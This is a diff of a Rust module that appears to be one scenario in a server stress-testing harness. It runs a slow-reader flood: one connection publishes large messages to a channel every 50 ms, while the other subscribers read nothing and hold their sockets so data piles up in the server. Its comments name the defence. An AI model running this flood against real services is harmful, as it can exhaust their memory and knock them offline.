@@ -1,21 +1,24 @@
-//! Subscribes to a busy channel and reads nothing, so that everything waits at the server. The first connection publishes to it.
+//! Subscribes to a busy channel and reads nothing, so everything is queued in the server. The first
+//! connection publishes to the channel.
 //!
-//! The attacker pays what it publishes, once, however many do not read it. A server should bound what waits for each client, in the
-//! kernel as well, and close a client that takes nothing for some seconds.
+//! The attacker pays once for each message, however many subscribers do not read it. A server should limit
+//! the queue of each client, including the kernel's send buffer, and close a client that reads nothing for
+//! some seconds.
 
 use std::rc::Rc;
 use std::time::Duration;
 
 use tokio::time::{interval, sleep, timeout};
 
-use super::{Attacker, Batch};
+use super::{Attacker, CommandBatch};
 
 const DATA_BYTES: usize = 60_000;
 const PUBLISH_EVERY: Duration = Duration::from_millis(50);
-/// What the attacker's own kernel takes in; it doubles this.
+/// Receive buffer of the attacker's own kernel, which doubles this value.
 const RECEIVE_BUFFER_BYTES: u32 = 4 * 1024;
-/// How long a connection is kept, although it may have been closed: nothing is read, not even that.
-const KEEP: Duration = Duration::from_secs(30);
+/// How long a connection is kept, although the server may have closed it: the attacker does not read, so it
+/// cannot notice.
+const KEEP_TIME: Duration = Duration::from_secs(30);
 
 pub(super) async fn run(attacker: Rc<Attacker>, index: u32) {
     if index == 0 { publish(&attacker).await } else { subscribe(&attacker).await }
@@ -24,13 +27,13 @@ pub(super) async fn run(attacker: Rc<Attacker>, index: u32) {
 async fn publish(attacker: &Attacker) -> ! {
     let data = "x".repeat(DATA_BYTES);
     let command = format!(r#"{{"id":1,"publish":{{"channel":"abuse","data":"{data}"}}}}"#);
-    let batch = Batch::of([command]);
+    let batch = CommandBatch::of([command]);
     loop {
         let Some(mut session) = attacker.open(None).await else { continue };
         let mut next = interval(PUBLISH_EVERY);
         loop {
             next.tick().await;
-            if !attacker.ask(&mut session, &batch).await {
+            if !attacker.send_batch(&mut session, &batch).await {
                 break;
             }
         }
@@ -38,13 +41,13 @@ async fn publish(attacker: &Attacker) -> ! {
 }
 
 async fn subscribe(attacker: &Attacker) -> ! {
-    let batch = Batch::of([r#"{"id":1,"subscribe":{"channel":"abuse"}}"#.to_owned()]);
+    let batch = CommandBatch::of([r#"{"id":1,"subscribe":{"channel":"abuse"}}"#.to_owned()]);
     loop {
         let Some(mut session) = attacker.open_with(None, Some(RECEIVE_BUFFER_BYTES)).await else { continue };
-        if attacker.ask(&mut session, &batch).await {
+        if attacker.send_batch(&mut session, &batch).await {
             session.connection.allow_reading(0);
-            // It ends only if what was sent before cannot be written.
-            let _ = timeout(KEEP, attacker.listen(&mut session)).await;
+            // This ends early only if data that was queued before cannot be written.
+            let _ = timeout(KEEP_TIME, attacker.read_to_end(&mut session)).await;
         } else {
             sleep(PUBLISH_EVERY).await;
         }
